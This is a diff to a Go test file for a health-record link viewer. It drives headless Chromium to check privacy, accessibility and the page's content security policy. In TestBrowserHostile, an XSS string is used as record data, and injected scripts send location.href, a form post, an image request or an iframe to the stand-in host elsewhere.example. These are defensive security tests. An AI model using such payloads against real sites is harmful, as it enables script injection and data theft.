@@ -6,11 +6,13 @@ import (
 	"crypto/ecdsa"
 	"crypto/elliptic"
 	"crypto/rand"
-	"crypto/sha256"
 	"crypto/tls"
 	"crypto/x509"
+	"crypto/x509/pkix"
 	"encoding/base64"
 	"encoding/json"
+	"encoding/pem"
+	"errors"
 	"fmt"
 	"math/big"
 	"net"
@@ -26,9 +28,6 @@ import (
 
 	"github.com/carekey/carekey/ledgerclient"
 )
-
-// envBrowser names a Chromium, in which the page for links is opened.
-const envBrowser = "CAREKEY_CHROMIUM"
 
 // browser is a headless Chromium, spoken to over a pipe (the DevTools protocol).
 type browser struct {
@@ -49,11 +48,26 @@ type browserEvent struct {
 
 const browserTime = 2 * time.Minute
 
-func newBrowser(t *testing.T, more ...string) *browser {
+// newBrowser starts a browser that trusts one more authority than others do.
+func newBrowser(t *testing.T, authority []byte) *browser {
 	t.Helper()
-	program := os.Getenv(envBrowser)
-	if program == "" {
-		t.Skip(envBrowser + " names no Chromium")
+	for _, program := range []string{"chromium", "certutil"} {
+		if _, err := exec.LookPath(program); err != nil {
+			if os.Getenv("CAREKEY_NO_SKIP") != "" {
+				t.Fatal(err)
+			}
+			t.Skip(err)
+		}
+	}
+	home := t.TempDir()
+	trusted, file := filepath.Join(home, ".pki", "nssdb"), filepath.Join(home, "authority.pem")
+	if err := errors.Join(os.MkdirAll(trusted, 0o700), os.WriteFile(file, authority, 0o600)); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"-N", "--empty-password"}, {"-A", "-t", "C,,", "-n", "test", "-i", file}} {
+		if out, err := exec.Command("certutil", append(args, "-d", "sql:"+trusted)...).CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
 	}
 	toRead, in, err := os.Pipe()
 	if err != nil {
@@ -63,8 +77,9 @@ func newBrowser(t *testing.T, more ...string) *browser {
 	if err != nil {
 		t.Fatal(err)
 	}
-	cmd := exec.Command(program, append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-		"--disable-component-update", "--disable-sync", "--force-prefers-reduced-motion", "--user-data-dir=" + t.TempDir(), "--remote-debugging-pipe"}, more...)...)
+	cmd := exec.Command("chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--no-first-run", "--disable-background-networking",
+		"--disable-component-update", "--disable-sync", "--force-prefers-reduced-motion", "--user-data-dir="+filepath.Join(home, "browser"), "--remote-debugging-pipe")
+	cmd.Env = append(os.Environ(), "HOME="+home)
 	cmd.ExtraFiles = []*os.File{toRead, toWrite}
 	if err := cmd.Start(); err != nil {
 		t.Fatal(err)
@@ -190,8 +205,14 @@ func (b *browser) of(method string) (out []json.RawMessage) {
 // visit goes to an address and waits until it is there.
 func (b *browser) visit(address string) {
 	b.t.Helper()
+	b.loads("Page.navigate", map[string]any{"url": address})
+}
+
+// loads asks the browser something and waits until a page is there.
+func (b *browser) loads(method string, params map[string]any) {
+	b.t.Helper()
 	seen := len(b.of("Page.loadEventFired"))
-	b.ask("Page.navigate", map[string]any{"url": address})
+	b.ask(method, params)
 	end := time.After(browserTime)
 	for len(b.of("Page.loadEventFired")) == seen {
 		select {
@@ -202,161 +223,408 @@ func (b *browser) visit(address string) {
 	}
 }
 
-// TestBrowser opens a link as anybody would: in a browser, under the page's own policy, at
-// a server whose certificate an authority vouches for. Nothing is sent before the form is,
-// nothing to anybody else, nothing is kept; what is shown can be used by who does not see it
-// and on a phone, and is printed.
-func TestBrowser(t *testing.T) {
-	cert, spki := testCertificate(t)
-	b := newBrowser(t, "--ignore-certificate-errors-spki-list="+spki)
+// waits until there is an event of one kind with a text in it.
+func (b *browser) waits(method, with string) {
+	b.t.Helper()
+	end := time.After(browserTime)
+	for !slices.ContainsFunc(b.of(method), func(e json.RawMessage) bool { return strings.Contains(string(e), with) }) {
+		select {
+		case <-b.woken:
+		case <-end:
+			b.t.Fatalf("%s with %s did not come", method, with)
+		}
+	}
+}
+
+// named is what a screen reader has of one thing on the page.
+type named struct {
+	role, name string
+	level      float64
+	required   bool
+}
+
+// tree is what a screen reader has of the page, in its order.
+func (b *browser) tree() (all []named) {
+	b.t.Helper()
+	for _, one := range b.ask("Accessibility.getFullAXTree", nil)["nodes"].([]any) {
+		n := one.(map[string]any)
+		if n["ignored"] == true {
+			continue
+		}
+		text := func(of any) string {
+			m, _ := of.(map[string]any)
+			s, _ := m["value"].(string)
+			return s
+		}
+		is := named{role: text(n["role"]), name: text(n["name"])}
+		properties, _ := n["properties"].([]any)
+		for _, one := range properties {
+			p := one.(map[string]any)
+			switch value := p["value"].(map[string]any)["value"]; p["name"] {
+			case "level":
+				is.level, _ = value.(float64)
+			case "required":
+				is.required = value == true
+			}
+		}
+		all = append(all, is)
+	}
+	return all
+}
+
+// readable checks what a screen reader has: what can be used has a name, headings lead from
+// one order to the next, and so many there are of each role.
+func (b *browser) readable(what string, least map[string]int) []named {
+	b.t.Helper()
+	tree, roles, level := b.tree(), map[string]int{}, 0.0
+	for _, n := range tree {
+		if slices.Contains([]string{"heading", "button", "link", "textbox"}, n.role) && n.name == "" {
+			b.t.Errorf("%s: a %s has no name", what, n.role)
+		}
+		if n.role == "heading" {
+			if n.level > level+1 {
+				b.t.Errorf("%s: %q is of order %v, behind one of %v", what, n.name, n.level, level)
+			}
+			level = n.level
+		}
+		roles[n.role]++
+	}
+	for role, n := range least {
+		if roles[role] < n {
+			b.t.Errorf("%s: %d of %s in %v", what, roles[role], role, roles)
+		}
+	}
+	return tree
+}
+
+// browsing is a node that a browser trusts, and the browser.
+type browsing struct {
+	*world
+	b    *browser
+	site string
+}
+
+func newBrowsing(t *testing.T) *browsing {
+	cert, authority := testCertificate(t)
+	b := newBrowser(t, authority)
 	w := newWorld(t, takesLinks(nil))
 	secure := httptest.NewUnstartedServer(w.server)
 	secure.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
 	secure.StartTLS()
 	t.Cleanup(secure.Close)
 	w.server.opt.Links.URL = secure.URL
+	return &browsing{w, b, secure.URL}
+}
 
+// page is where a browser opens a link.
+func (w *browsing) page(l *linked, more map[string]any) string {
+	return w.site + "/view#" + l.text(w.site, more)
+}
+
+// asked is what the browser asked for so far.
+func (w *browsing) asked() (out []string) {
+	w.t.Helper()
+	for _, raw := range w.b.of("Network.requestWillBeSent") {
+		var e struct {
+			Request struct {
+				URL, Method string
+				Headers     map[string]string
+			}
+		}
+		w.must(json.Unmarshal(raw, &e))
+		if e.Request.Headers["Referer"] != "" || e.Request.Headers["Cookie"] != "" {
+			w.t.Errorf("%s is told more than it asks for: %v", e.Request.URL, e.Request.Headers)
+		}
+		out = append(out, e.Request.Method+" "+strings.TrimPrefix(e.Request.URL, w.site))
+	}
+	return out
+}
+
+// send fills in the form, as far as it is there, and sends it.
+func (w *browsing) send(by, why, passcode string) {
+	w.t.Helper()
+	for id, text := range map[string]string{"recipient": by, "reason": why, "passcode": passcode} {
+		w.b.run(fmt.Sprintf(`document.getElementById(%q).value = %q`, id, text))
+	}
+	w.b.run(`document.getElementById("open").click()`)
+}
+
+// problem waits for what the page says that is wrong.
+func (w *browsing) problem(want string) {
+	w.t.Helper()
+	w.b.until("a problem", `!document.getElementById("problem").hidden && document.getElementById("busy").textContent === ""`)
+	if got := w.b.run(`document.getElementById("problem").textContent`); got != want {
+		w.t.Errorf("%v\nnot %s", got, want)
+	}
+}
+
+// shows waits for the view and checks that it has texts.
+func (w *browsing) shows(wants ...string) {
+	w.t.Helper()
+	w.b.until("the view", `!document.getElementById("result").hidden`)
+	text, _ := w.b.run(`document.getElementById("view").innerText`).(string)
+	for _, want := range wants {
+		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) {
+			w.t.Errorf("%q is not in the view:\n%s", want, text)
+		}
+	}
+}
+
+// fits checks that nothing of the page is beside the screen.
+func (w *browsing) fits(what string) {
+	w.t.Helper()
+	if w.b.run(`document.documentElement.scrollWidth <= innerWidth`) != true {
+		w.t.Errorf("%s is wider than the screen: %v", what, w.b.run(`document.documentElement.scrollWidth`))
+	}
+}
+
+// quiet checks that nothing was kept, and that the browser had nothing to say.
+func (w *browsing) quiet(but ...string) {
+	w.t.Helper()
+	if kept := w.b.run(`[localStorage.length, sessionStorage.length, document.cookie, history.length > 2].join()`); kept != "0,0,,false" {
+		w.t.Errorf("kept: %v", kept)
+	}
+	for _, raw := range append(w.b.of("Log.entryAdded"), w.b.of("Runtime.exceptionThrown")...) {
+		s := string(raw)
+		if !strings.Contains(s, "favicon") && !strings.Contains(s, `"level":"verbose"`) && !slices.ContainsFunc(but, func(b string) bool { return strings.Contains(s, b) }) {
+			w.t.Errorf("the browser says: %s", s)
+		}
+	}
+}
+
+// TestBrowser opens a link as anybody would: in a browser, under the page's own policy, at
+// a server for which an authority vouches. Nothing is sent before the form is, nothing to
+// anybody else, nothing is kept; what is shown can be used by who does not see it and on a
+// phone, and is printed.
+func TestBrowser(t *testing.T) {
+	w := newBrowsing(t)
+	b := w.b
 	file, err := os.ReadFile("../../../testdata/fhir/maria-example.json")
 	w.must(err)
 	l := w.link(withPasscode("right", 5))
 	w.fill(l, file)
 	w.keep(l)
-	page := secure.URL + "/view#" + l.text(secure.URL, map[string]any{"flag": "P", "exp": w.clock.now().Add(time.Hour).Unix(), "label": "For\u202e you"})
 
 	b.ask("Emulation.setDeviceMetricsOverride", map[string]any{"width": 360, "height": 740, "deviceScaleFactor": 2, "mobile": true})
-	b.visit(page)
+	b.visit(w.page(l, map[string]any{"flag": "P", "exp": w.clock.now().Add(time.Hour).Unix(), "label": "For\u202e you"}))
 	if b.run(`document.getElementById("form").hidden`) != false || b.run(`document.getElementById("label").textContent`) != "For\ufffd you" {
 		t.Fatalf("no form: %v", b.run(`document.body.innerText`))
 	}
 	b.shot("form")
-	fits := func(what string) {
-		t.Helper()
-		if b.run(`document.documentElement.scrollWidth <= innerWidth`) != true {
-			t.Errorf("%s is wider than a phone: %v", what, b.run(`document.documentElement.scrollWidth`))
+	w.fits("the form")
+	form := b.readable("the form", map[string]int{"main": 1, "banner": 1, "contentinfo": 1, "heading": 1})
+	for _, want := range []named{{"heading", "Health data, shared by link", 1, false}, {"textbox", "Your name and where you work", 0, true}, {"textbox", "Why you open this", 0, true},
+		{"textbox", "Passcode, which you got apart from the link", 0, true}, {"button", "Open", 0, false}} {
+		if !slices.Contains(form, want) {
+			t.Errorf("the form has no %+v in %+v", want, form)
 		}
 	}
-	fits("the form")
-	requests := func() (out []string) {
-		for _, raw := range b.of("Network.requestWillBeSent") {
-			var e struct {
-				Request struct {
-					URL, Method string
-					Headers     map[string]string
-				}
-			}
-			json.Unmarshal(raw, &e)
-			if e.Request.Headers["Referer"] != "" {
-				t.Errorf("%s is told where it is asked from: %s", e.Request.URL, e.Request.Headers["Referer"])
-			}
-			out = append(out, e.Request.Method+" "+e.Request.URL)
+	says, _ := b.run(`document.getElementById("form").innerText`).(string)
+	for _, want := range []string{"Nothing is sent before you press Open.", "Whoever shared this sees what you write here"} {
+		if !strings.Contains(says, want) {
+			t.Errorf("the form does not say: %s", want)
 		}
-		return out
 	}
-	if got := requests(); !slices.Equal(got, []string{"GET " + secure.URL + "/view"}) {
+	if got := w.asked(); !slices.Equal(got, []string{"GET /view"}) {
 		t.Errorf("before the form was sent: %q", got)
 	}
-	if a := w.became(l); len(a.Events) != 0 {
-		t.Errorf("before the form was sent: %+v", a.Events)
+	w.send("Dr A, City", "", "right")
+	if got := b.run(`document.getElementById("reason").matches(":invalid")`); got != true {
+		t.Error("who says no reason is not asked for it")
 	}
-	fill := func(passcode string) {
-		b.run(fmt.Sprintf(`document.getElementById("recipient").value = "Dr A, City"; document.getElementById("reason").value = "a fall"; document.getElementById("passcode").value = %q; document.getElementById("open").click()`, passcode))
+	w.send(" ", "a fall", "right")
+	w.problem("Say who you are and why you open this.")
+	if a := w.became(l); len(a.Events) != 0 || len(w.asked()) != 1 {
+		t.Errorf("before the form was sent: %+v, %q", a.Events, w.asked())
 	}
-	fill("wrong")
-	b.until("a refusal", `!document.getElementById("problem").hidden && document.getElementById("busy").textContent === ""`)
-	if got := b.run(`document.getElementById("problem").textContent`); got != "The passcode is wrong. Tries left: 4. Wrong tries end the link for good." {
-		t.Errorf("%v", got)
-	}
-	if got := b.run(`location.href`); got != secure.URL+"/view" {
+	w.send("Dr A, City", "a fall", "wrong")
+	w.problem("The passcode is wrong. Tries left: 4. Wrong tries end the link for good.")
+	if got := b.run(`location.href`); got != w.site+"/view" {
 		t.Errorf("the link stays in the address: %v", got)
 	}
-	fill("right")
-	b.until("the view", `!document.getElementById("result").hidden`)
-	text, _ := b.run(`document.getElementById("view").innerText`).(string)
-	for _, want := range []string{"Μαρία Παράδειγμα", "Allergies", "Interactions not looked for by this page", "This is what the sources say"} {
-		if !strings.Contains(strings.Join(strings.Fields(text), " "), want) {
-			t.Errorf("%q is not in the view:\n%s", want, text)
-		}
-	}
+	w.send("Dr A, City", "a fall", "right")
+	w.shows("Μαρία Παράδειγμα", "Allergies", "Interactions not looked for by this page", "This is what the sources say")
 	if at := b.run(`document.activeElement.id`); at != "heading" {
 		t.Errorf("the focus is at %v", at)
 	}
-	fits("the view")
+	w.fits("the view")
 	b.shot("view")
-	saved := b.run(`document.getElementById("save").download + " " + document.getElementById("save").href.slice(0, 5)`)
-	if saved != "record.fhir.json blob:" {
-		t.Errorf("%v", saved)
+	if got := w.asked(); !slices.Equal(got, []string{"GET /view", "POST " + l.path(), "POST " + l.path()}) {
+		t.Errorf("asked: %q", got)
 	}
-	for _, asked := range requests() {
-		if !strings.HasPrefix(asked, "GET "+secure.URL+"/view") && asked != "POST "+secure.URL+l.path() && !strings.Contains(asked, " blob:") {
-			t.Errorf("asked: %s", asked)
-		}
-	}
-	if kept := b.run(`[localStorage.length, sessionStorage.length, document.cookie, history.length > 2].join()`); kept != "0,0,,false" {
-		t.Errorf("kept: %v", kept)
-	}
-	for _, raw := range append(b.of("Log.entryAdded"), b.of("Runtime.exceptionThrown")...) {
-		if s := string(raw); !strings.Contains(s, "401") && !strings.Contains(s, "favicon") && !strings.Contains(s, `"level":"verbose"`) {
-			t.Errorf("the browser says: %s", s)
-		}
-	}
-
-	// What a screen reader has: one heading of the first order, those of persons and sections
-	// below, lists, and the landmarks.
-	roles := map[string]int{}
-	nodes := b.ask("Accessibility.getFullAXTree", nil)["nodes"].([]any)
-	for _, n := range nodes {
-		node := n.(map[string]any)
-		if node["ignored"] == true {
-			continue
-		}
-		role, _ := node["role"].(map[string]any)["value"].(string)
-		name := ""
-		if v, ok := node["name"].(map[string]any); ok {
-			name, _ = v["value"].(string)
-		}
-		if slices.Contains([]string{"heading", "button", "link"}, role) && name == "" {
-			t.Errorf("a %s has no name", role)
-		}
-		roles[role]++
-	}
-	for role, least := range map[string]int{"main": 1, "banner": 1, "contentinfo": 1, "heading": 10, "list": 3, "listitem": 4, "button": 1, "link": 1} {
-		if roles[role] < least {
-			t.Errorf("%d of %s in %v", roles[role], role, roles)
-		}
-	}
+	w.quiet("401")
+	b.readable("the view", map[string]int{"main": 1, "banner": 1, "contentinfo": 1, "article": 1, "heading": 10, "list": 3, "listitem": 4, "button": 1, "link": 1})
 
 	pdf, err := base64.StdEncoding.DecodeString(b.ask("Page.printToPDF", nil)["data"].(string))
 	if err != nil || !bytes.HasPrefix(pdf, []byte("%PDF-")) {
 		t.Errorf("it is not printed: %v", err)
 	}
 	b.ask("Emulation.setEmulatedMedia", map[string]any{"media": "print"})
-	if b.run(`getComputedStyle(document.querySelector(".screen")).display`) != "none" {
-		t.Error("buttons are printed")
+	if b.run(`getComputedStyle(document.querySelector(".screen")).display`) != "none" || b.run(`getComputedStyle(document.getElementById("view")).display`) == "none" {
+		t.Error("not what is shown is printed")
 	}
-
 	w.says("the node", l, ledgerclient.LinkActive, 2, 4, "wrong-passcode Dr A, City a fall", "opened Dr A, City a fall")
 }
 
-// testCertificate is one for this computer, and what names its key to the browser, which
-// trusts that alone.
-func testCertificate(t *testing.T) (cert tls.Certificate, spki string) {
+// TestBrowserHostile opens a link to what somebody wrote who wants to be more than read: it
+// is text, and the page's policy would hold where that failed. What is saved is what was
+// shared, byte for byte; each section is in one of four states; and a link that opens nothing
+// says so.
+func TestBrowserHostile(t *testing.T) {
+	w := newBrowsing(t)
+	b := w.b
+	const hostile = `<img src=x onerror=document.title=1><script>document.title=1</script>`
+	absent := func(code string) string {
+		return `{"coding":[{"system":"http://hl7.org/fhir/uv/ips/CodeSystem/absent-unknown-uv-ips","code":"` + code + `"}]}`
+	}
+	about := `,"subject":{"reference":"urn:uuid:p"}`
+	file := []byte(`{"resourceType":"Bundle","type":"collection","entry":[
+{"fullUrl":"urn:uuid:p","resource":{"resourceType":"Patient","name":[{"text":"Ann ` + hostile + `"}],"text":{"status":"generated","div":"` + hostile + `"}}},
+{"resource":{"resourceType":"AllergyIntolerance","patient":{"reference":"urn:uuid:p"},"code":` + absent("no-known-allergies") + `}},
+{"resource":{"resourceType":"MedicationStatement","status":"active"` + about + `,"medicationCodeableConcept":{"text":"` + hostile + `"}}},
+{"resource":{"resourceType":"Condition"` + about + `,"code":` + absent("no-problem-info") + `}}]}
+`)
+	l := w.link(func(d *ledgerclient.LinkDeposit) { d.Openings = 1 })
+	w.fill(l, file)
+	w.keep(l)
+	direct := map[string]any{"flag": "U", "label": hostile}
+	b.visit(w.page(l, direct))
+	if got := b.run(`document.getElementById("label").textContent`); got != hostile {
+		t.Errorf("the label: %v", got)
+	}
+	w.send("Dr <b>A</b>", "a & b", "")
+	w.shows("Ann "+hostile, "Allergies 1 source states none", "Medicines 1 entry listed", hostile+": active", "Problems 1 source had no information", "Immunizations no information in what was shared")
+	b.shot("states")
+	if got := b.run(`document.title + document.querySelectorAll("img, main script, iframe, object, embed").length`); got != "Health record, shared by link0" {
+		t.Errorf("what was shared is more than text: %v", got)
+	}
+	w.quiet()
+
+	downloads := t.TempDir()
+	page := b.session
+	b.session = ""
+	b.ask("Browser.setDownloadBehavior", map[string]any{"behavior": "allow", "downloadPath": downloads, "eventsEnabled": true})
+	b.session = page
+	b.run(`document.getElementById("save").click()`)
+	b.waits("Browser.downloadProgress", `"completed"`)
+	if saved, err := os.ReadFile(filepath.Join(downloads, "record.fhir.json")); err != nil || !bytes.Equal(saved, file) {
+		t.Errorf("what is saved is not what was shared: %v", err)
+	}
+
+	for _, asked := range w.asked() {
+		if asked != "GET /view" && !strings.HasPrefix(asked, "GET "+l.path()+"?recipient=Dr%20%3Cb%3EA%3C%2Fb%3E&reason=a%20%26%20b") && !strings.HasPrefix(asked, "GET blob:"+w.site) {
+			t.Errorf("asked: %s", asked)
+		}
+	}
+
+	// What the policy forbids, to whom got a script into the page all the same.
+	violated := func(script string) any {
+		return b.run(`new Promise((ok) => { document.addEventListener("securitypolicyviolation", (e) => ok(e.effectiveDirective), { once: true }); ` + script + ` })`)
+	}
+	for script, directive := range map[string]string{
+		`fetch("https://elsewhere.example/?" + location.href).catch(() => {});`:                                                                      "connect-src",
+		`new Image().src = "https://elsewhere.example/";`:                                                                                            "img-src",
+		`try { document.body.innerHTML = "x"; } catch { /* it is said */ }`:                                                                          "require-trusted-types-for",
+		`const f = document.createElement("form"); f.method = "post"; f.action = "https://elsewhere.example/"; document.body.append(f); f.submit();`: "form-action",
+		`const s = document.createElement("style"); s.textContent = "p{color:red}"; document.head.append(s);`:                                        "style-src-elem",
+		`const s = document.createElement("link"); s.rel = "stylesheet"; s.href = "` + w.site + `/view"; document.head.append(s);`:                   "style-src-elem",
+		`const f = document.createElement("iframe"); f.src = "https://elsewhere.example/"; document.body.append(f);`:                                 "frame-src",
+		`try { new Worker("` + w.site + `/view"); } catch { /* it is said */ }`:                                                                      "require-trusted-types-for",
+	} {
+		if got := violated(script); got != directive {
+			t.Errorf("%s violates %v, not %s", script, got, directive)
+		}
+	}
+	b.visit("about:blank")
+	b.visit(w.page(l, direct))
+	w.send("Dr B", "too late", "")
+	w.problem("This link opens nothing: it has ended or was ended, all its openings are used, or it never was. Ask who gave it to you for another.")
+	w.says("the node", l, ledgerclient.LinkExhausted, 0, 0, "opened Dr <b>A</b> a & b", "refused Dr B too late")
+}
+
+// TestBrowserTurns: another link in the same window is opened by itself, with nothing of the
+// one before; what was shown does not come back; a browser that is too old says so before
+// anything is sent; and what cannot be shown can still be saved.
+func TestBrowserTurns(t *testing.T) {
+	w := newBrowsing(t)
+	b := w.b
+	file, err := os.ReadFile("../../../testdata/fhir/maria-example.json")
+	w.must(err)
+	one, other := w.link(nil), w.link(nil)
+	for _, l := range []*linked{one, other} {
+		w.fill(l, file)
+		w.keep(l)
+	}
+	direct := map[string]any{"flag": "U"}
+	state := func(what, want string) {
+		t.Helper()
+		if got := b.run(`["form", "result", "problem"].filter((id) => !document.getElementById(id).hidden).join() + " " + document.getElementById("view").childElementCount`); got != want {
+			t.Errorf("%s: %v, not %s", what, got, want)
+		}
+	}
+	b.visit(w.page(one, direct))
+	state("a link", "form 0")
+	w.send("Dr A", "a fall", "")
+	w.shows("Μαρία Παράδειγμα")
+	b.visit(w.page(other, direct))
+	state("another link", "form 0")
+	w.send("Dr B", "a fall", "")
+	w.shows("Μαρία Παράδειγμα")
+	w.says("the other", other, ledgerclient.LinkActive, 2, 0, "opened Dr B a fall")
+
+	b.visit("about:blank")
+	history := b.ask("Page.getNavigationHistory", nil)
+	entries, at := history["entries"].([]any), int(history["currentIndex"].(float64))
+	b.loads("Page.navigateToHistoryEntry", map[string]any{"entryId": entries[at-1].(map[string]any)["id"]})
+	state("back", "problem 0")
+	if got := b.run(`location.href + document.getElementById("problem").textContent`); got != w.site+"/viewThere is no link here. Open the whole link, as you got it." {
+		t.Errorf("back: %v", got)
+	}
+
+	with := func(script string) {
+		id := b.ask("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": script})["identifier"]
+		b.visit("about:blank")
+		b.visit(w.page(one, direct))
+		b.ask("Page.removeScriptToEvaluateOnNewDocument", map[string]any{"identifier": id})
+	}
+	with(`delete globalThis.DecompressionStream`)
+	state("an old browser", "problem 0")
+	if says, _ := b.run(`document.getElementById("problem").textContent`).(string); !strings.Contains(says, "Nothing was sent.") {
+		t.Errorf("an old browser: %s", says)
+	}
+	w.says("the first", one, ledgerclient.LinkActive, 2, 0, "opened Dr A a fall")
+
+	with(`Array.prototype.every = () => { throw new Error("not as it should be"); }`)
+	w.send("Dr C", "a fall", "")
+	w.shows("This page cannot show what was shared. Save it, and look at it with another program.")
+	if got := b.run(`document.getElementById("save").href.slice(0, 5)`); got != "blob:" {
+		t.Errorf("it cannot be saved: %v", got)
+	}
+}
+
+// testCertificate is one for this computer, and the authority that vouches for it.
+func testCertificate(t *testing.T) (cert tls.Certificate, authority []byte) {
 	t.Helper()
-	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	key := func() *ecdsa.PrivateKey {
+		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return k
+	}
+	from, to := time.Now().Add(-time.Hour), time.Now().Add(24*time.Hour)
+	by := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "Authority of a test"}, NotBefore: from, NotAfter: to, IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
+	is := &x509.Certificate{SerialNumber: big.NewInt(2), NotBefore: from, NotAfter: to, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
+	byKey, isKey := key(), key()
+	root, err := x509.CreateCertificate(rand.Reader, by, by, byKey.Public(), byKey)
 	if err != nil {
 		t.Fatal(err)
 	}
-	is := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
-		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
-	der, err := x509.CreateCertificate(rand.Reader, is, is, key.Public(), key)
+	der, err := x509.CreateCertificate(rand.Reader, is, by, isKey.Public(), byKey)
 	if err != nil {
 		t.Fatal(err)
 	}
-	raw, err := x509.MarshalPKIXPublicKey(key.Public())
-	if err != nil {
-		t.Fatal(err)
-	}
-	sum := sha256.Sum256(raw)
-	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, base64.StdEncoding.EncodeToString(sum[:])
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: isKey}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: root})
 }
 
 // shot takes a picture of the page where CAREKEY_SHOTS says.
